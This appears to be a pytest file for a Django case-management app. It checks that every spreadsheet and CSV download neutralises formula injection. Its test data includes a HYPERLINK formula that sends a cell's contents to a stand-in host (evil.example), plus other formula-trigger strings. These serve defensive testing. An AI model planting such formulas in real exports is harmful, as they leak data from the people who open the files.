"""Every spreadsheet download writes stored text as inert text, never as a formula.

The walk over the downloads is written once for all of them: a download is
any URL whose view hands a file to ``file_response`` or
``written_file_response``; the URL matrix's world (each app's
``tests/url_arguments.py``) supplies its records, and every free-text field
of every Lotse record is then overwritten with a text a spreadsheet program
would run as a formula. A new XLSX or CSV export is covered without a line
here, and fails if no stored text reaches it (then seed it, or name it in
``WITHOUT_STORED_TEXT``).
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from types import CodeType
from typing import Any

import pytest
from django.apps import apps
from django.db import DatabaseError, connection, models, transaction
from django.db.models.functions import Cast, Concat
from django.urls import resolve, reverse
from openpyxl import load_workbook

from lotse.conftest import client_for
from lotse.core.export import (
    FORMULA_TRIGGERS,
    append_row,
    cell,
    csv_bytes,
    csv_field,
    new_workbook,
    sheet_title,
    streaming_workbook,
    workbook_bytes,
)
from lotse.core.testing import run_jobs
from lotse.core.tests.test_url_matrix import PERSONAS, Urls, allowed_methods, url_patterns

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
# One text per character a spreadsheet program may read as the start of a formula; each names "evil".
HOSTILE = (HYPERLINK, "+evil()", "-evil()", "@evil()", "\t=evil()", "\r=evil()", "=1+1 evil")
# The PDFs among the downloads: no spreadsheet program opens them.
PDF_DOWNLOADS = {
    "volunteers:interpreting_statements_pdf",
    "arrivals:received_print",
    "arrivals:sheet_print",
    "cases:plan_pdf",
    "network:case_info_sheet",
    "network:sheet_pdf",
    "reports:pdf",
    "arrivals:arrival_info_sheet",
}
# Spreadsheets that carry no stored text: the blank import templates and the documented example.
# (The volunteering figures name only the organisation counted; the first persona, Statistik, counts them all.)
# (The interpreters' monthly statements of the URL matrix's world cover a month without appointments held.)
WITHOUT_STORED_TEXT = {
    "volunteers:interpreting_statements_xlsx",
    "imports:template",
    "imports:example",
    "volunteers:figures_xlsx",
    "volunteers:volunteer_import_template",
    # The rent limits: the municipality by its key (AGS), sizes, dates and amounts; the template only its headers.
    "housing:rent_limit_export",
    "housing:rent_limit_import_template",
}
# Files written by a background job (lotse.core.downloads): the file's URL, and where it is asked for.
PREPARED_IN_BACKGROUND = {"imports:export_file": "imports:export"}
SPREADSHEET_TYPES = {
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx",
    "text/csv; charset=utf-8": "csv",
}


def _code_objects(code: CodeType) -> Iterator[CodeType]:
    yield code
    for constant in code.co_consts:
        if isinstance(constant, CodeType):
            yield from _code_objects(constant)


def writes_a_file(view: Any, seen: set[int] | None = None) -> bool:
    """Whether the view answers with ``file_response`` or ``written_file_response``.

    Directly, in a function nested in it, or in a function of Lotse it calls by name.
    """
    seen = set() if seen is None else seen
    while hasattr(view, "__wrapped__"):
        view = view.__wrapped__
    code = getattr(view, "__code__", None)
    if code is None or id(code) in seen:
        return False
    seen.add(id(code))
    names = {name for nested in _code_objects(code) for name in nested.co_names}
    if names & {"file_response", "written_file_response"}:
        return True
    called = (view.__globals__.get(name) for name in names)
    return any(
        writes_a_file(function, seen)
        for function in called
        if callable(function) and (getattr(function, "__module__", "") or "").startswith("lotse.")
    )


def downloads() -> list[str]:
    return sorted(name for name, pattern in url_patterns().items() if writes_a_file(pattern.callback))


SPREADSHEET_DOWNLOADS = sorted(set(downloads()) - PDF_DOWNLOADS)


def _text_fields(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, (models.CharField, models.TextField))
        and not field.choices
        and not field.primary_key
        and field.name != "password"
    ]


def make_text_hostile() -> set[str]:
    """Overwrite every free-text field of every Lotse record with a formula; returns the texts now stored.

    A field that refuses the text (a check constraint on its format, say) keeps its value; a unique
    field gets the record's number appended.
    """
    stored: set[str] = set()
    number = 0
    for model in apps.get_models():
        if not model.__module__.startswith("lotse.") or model._meta.proxy or not model._meta.managed:
            continue
        if model.__name__.endswith("Event"):  # the change history's copies, written by triggers
            continue
        for field in _text_fields(model):
            text = HOSTILE[number % len(HOSTILE)]
            number += 1
            rows = model._default_manager.all()
            length = field.max_length or len(text) + 12
            value: Any = text[:length]
            if field.unique:
                value = Concat(models.Value(text[: max(length - 11, 1)] + " "), Cast("pk", models.CharField()))
            try:
                with transaction.atomic():
                    rows.update(**{field.name: value})
            except DatabaseError:
                continue
            stored |= {str(v) for v in rows.values_list(field.name, flat=True)}
    return stored


def persona_for(urls: Urls, request: pytest.FixtureRequest, name: str) -> Any:
    for persona in PERSONAS:
        user = request.getfixturevalue(persona)
        if urls.permitted(persona, user.roles, name):
            return user
    raise AssertionError(f"{name}: no persona may download it")


def test_it_finds_the_downloads_of_the_url_map():
    found = set(downloads())
    assert found >= PDF_DOWNLOADS | WITHOUT_STORED_TEXT
    assert found >= {"imports:export_file", "network:actor_export", "reports:csv", "accommodation:resident_list_xlsx"}


@pytest.mark.django_db
@pytest.mark.parametrize("name", SPREADSHEET_DOWNLOADS)
def test_it_writes_stored_text_as_inert_text_in_every_spreadsheet_download(
    request: pytest.FixtureRequest, urls: Urls, name: str
) -> None:
    user = persona_for(urls, request, name)
    stored = make_text_hostile()
    client = client_for(user)
    methods = allowed_methods(url_patterns()[name].callback)
    if name in PREPARED_IN_BACKGROUND:
        # Asked for on one page, written by a background job, fetched from its own page when ready. The jobs
        # the URL world queued (whose records now carry hostile text, their kinds too) are not this test's.
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM procrastinate_jobs WHERE status = 'todo'")
        asked = client.post(reverse(PREPARED_IN_BACKGROUND[name]), {})
        run_jobs()
        response = client.get(reverse(name, kwargs=resolve(asked["Location"]).kwargs))
    elif methods is not None and "GET" not in methods:
        response = client.post(urls.url(name), {})
    else:
        response = client.get(urls.url(name), {})
    assert response.status_code == 200, name
    kind = SPREADSHEET_TYPES.get(response["Content-Type"])
    assert kind is not None, f"{name} answers {response['Content-Type']}: a PDF belongs in PDF_DOWNLOADS"
    texts = _xlsx_texts(response.content) if kind == "xlsx" else _csv_texts(response.content)
    hostile = [text for text in texts if "evil" in text]
    if name in WITHOUT_STORED_TEXT:
        assert hostile == [], f"{name} carries stored text: remove it from WITHOUT_STORED_TEXT"
        return
    assert hostile, f"{name} carries none of the stored texts: seed its records or name it in WITHOUT_STORED_TEXT"
    # The stored text is there as it was stored (a cell may say more around it, "Karimi, Omar").
    assert any(text in found for text in stored for found in hostile), name
    starting = [found for found in hostile if found.lstrip("'").startswith(FORMULA_TRIGGERS)]
    if kind == "csv":
        # No type tells a CSV field's text: the apostrophe makes it inert.
        assert starting, f"{name}: no field begins with a stored formula"
        assert [found for found in starting if not found.startswith("'")] == [], name
    else:
        # A string cell is inert as it is: no apostrophe, so the import reads back what was exported.
        assert [found for found in starting if found.startswith("'")] == [], name


def _xlsx_texts(content: bytes) -> list[str]:
    """Every text of the workbook; fails on a formula cell, whatever it holds."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for found in row:
                assert found.data_type != "f", (sheet.title, found.coordinate, found.value)
                if isinstance(found.value, str):
                    assert found.data_type == "s", (sheet.title, found.coordinate, found.value)
                    texts.append(found.value)
    return texts


def _csv_texts(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [field for row in rows for field in row]


# The helper itself


@pytest.mark.parametrize("streaming", [False, True])
def test_it_writes_formula_text_as_text_cells(streaming: bool) -> None:
    if streaming:
        workbook = streaming_workbook()
        sheet = workbook.create_sheet("Personen")
    else:
        workbook, sheet = new_workbook("Personen")
    append_row(sheet, [*HOSTILE, "Haddad"])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook)))["Personen"]
    assert [(c.value, c.data_type) for c in reloaded[1]] == [(text, "s") for text in [*HOSTILE, "Haddad"]]


def test_it_keeps_numbers_and_dates_typed() -> None:
    workbook, sheet = new_workbook("Zahlen")
    day = datetime.date(2025, 6, 30)
    append_row(sheet, [-3, Decimal("24.5"), 1.5, day, None, True])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook)))["Zahlen"]
    row = reloaded[1]
    assert [c.value for c in row] == [-3, 24.5, 1.5, datetime.datetime(2025, 6, 30), None, True]
    assert [c.data_type for c in row] == ["n", "n", "n", "d", "n", "b"]
    assert row[3].number_format == "DD.MM.YYYY"


def test_it_writes_aware_datetimes_in_local_time() -> None:
    workbook, sheet = new_workbook("Zeit")
    moment = datetime.datetime(2025, 6, 30, 8, 15, tzinfo=datetime.UTC)
    append_row(sheet, [moment])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook)))["Zeit"]
    assert reloaded["A1"].value == datetime.datetime(2025, 6, 30, 10, 15)  # Europe/Berlin in summer


def test_it_drops_control_characters_a_workbook_cannot_hold() -> None:
    """A stored control character would make openpyxl refuse the whole export (a 500)."""
    workbook, sheet = new_workbook("Text")
    append_row(sheet, ["Ha\x00dd\x07ad\tX"])
    assert load_workbook(io.BytesIO(workbook_bytes(workbook)))["Text"]["A1"].value == "Haddad\tX"


def test_it_keeps_a_cell_made_for_a_number_format() -> None:
    workbook, sheet = new_workbook("Quote")
    append_row(sheet, ["Quote", cell(sheet, Decimal("24.5"), number_format="0.0")])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook)))["Quote"]
    assert (reloaded["B1"].value, reloaded["B1"].number_format) == (24.5, "0.0")


def test_it_prefixes_formula_text_in_csv_with_an_apostrophe() -> None:
    assert [csv_field(text) for text in HOSTILE] == [f"'{text}" for text in HOSTILE]
    assert csv_field("Haddad") == "Haddad"
    assert csv_field("< 3") == "< 3"


def test_it_writes_csv_numbers_and_dates_as_german_spreadsheets_read_them() -> None:
    assert csv_field(-3) == "-3"
    assert csv_field(Decimal("24.5")) == "24,5"
    assert csv_field(0.1) == "0,1"
    assert csv_field(datetime.date(2025, 6, 30)) == "30.06.2025"
    assert csv_field(None) == ""
    content = csv_bytes([["Name", HYPERLINK, -3], ["Ha\x00ddad"]])
    assert content == ('\ufeffName;"\'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")";-3\r\nHaddad\r\n').encode()


def test_it_leaves_writing_spreadsheets_to_the_export_helper() -> None:
    """No module of Lotse writes a workbook or a CSV file but the helper (the demo and benchmark write import input)."""
    root = Path(__file__).resolve().parents[2]
    exempt = {"core/export.py", "imports/bench.py", "demo/casework.py"}
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|WriteOnlyCell\(")
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in exempt:
            continue
        if writers.search(path.read_text()):
            offenders.append(relative)
    assert offenders == []


@pytest.mark.parametrize(
    ("caption", "title"),
    [
        ("Personen", "Personen"),
        ("Abschlussgründe der im Zeitraum beendeten Beratungen", "Abschlussgründe der im Zeitraum"),
        ("Belegung der Unterkünfte nach Gemeinde und Art", "Belegung der Unterkünfte nach"),
        ("Zuweisungen: Personen [je Gemeinde]", "Zuweisungen Personen je"),
        ("Donaudampfschifffahrtsgesellschaftskapitän", "Donaudampfschifffahrtsgesellsch"),
    ],
)
def test_it_names_a_sheet_within_excels_31_characters_cutting_after_a_whole_word(caption: str, title: str) -> None:
    assert sheet_title(caption) == title
    assert len(title) <= 31
    workbook = new_workbook(caption)[0]
    assert workbook.active.title == title
